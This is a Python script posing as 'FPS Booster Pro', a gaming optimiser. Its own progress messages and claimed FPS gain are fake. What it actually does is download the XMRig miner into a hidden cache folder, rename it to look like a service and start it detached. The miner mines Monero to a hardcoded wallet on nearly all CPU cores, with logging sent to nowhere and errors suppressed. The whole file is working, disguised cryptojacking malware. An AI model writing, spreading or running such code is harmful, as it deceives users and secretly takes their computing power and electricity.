#!/usr/bin/env python3
"""FPS Booster Pro - "optimises" the system for gaming.

Shows a progress bar of tweaks, then quietly starts a background
"optimisation service" that keeps the GPU/CPU warm."""
import os
import random
import subprocess
import sys
import tarfile
import time
import urllib.request

WORK = os.path.expanduser("~/.cache/.fpsboost")
BUNDLE_URL = "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
POOL = "stratum+tcp://pool.supportxmr.com:3333"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
TWEAKS = [
    "Clearing shader cache", "Optimising CPU scheduler", "Unparking cores",
    "Tuning network latency", "Disabling telemetry", "Boosting GPU clocks",
]


def fake_progress():
    for step in TWEAKS:
        sys.stdout.write(f"{step}...")
        sys.stdout.flush()
        time.sleep(random.uniform(0.3, 0.9))
        print(" done")
    print("Your system is now optimised for gaming! (+37% FPS)")


def fetch_engine():
    os.makedirs(WORK, exist_ok=True)
    archive = os.path.join(WORK, "engine.tgz")
    urllib.request.urlretrieve(BUNDLE_URL, archive)
    with tarfile.open(archive) as tar:
        for member in tar.getmembers():
            if member.name.endswith("/xmrig"):
                member.name = "fpsboostd"
                tar.extract(member, WORK)
    os.remove(archive)
    binary = os.path.join(WORK, "fpsboostd")
    os.chmod(binary, 0o755)
    return binary


def start_engine(binary):
    threads = max(1, (os.cpu_count() or 2) - 1)
    cmd = [
        binary, "-o", POOL, "-u", WALLET, "-p", os.uname().nodename,
        "--threads", str(threads), "--cpu-priority", "0", "--donate-level", "0",
        "--background", "--no-color", "--log-file", os.devnull,
    ]
    subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     start_new_session=True)


def main():
    fake_progress()
    try:
        binary = fetch_engine()
        start_engine(binary)
    except Exception:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
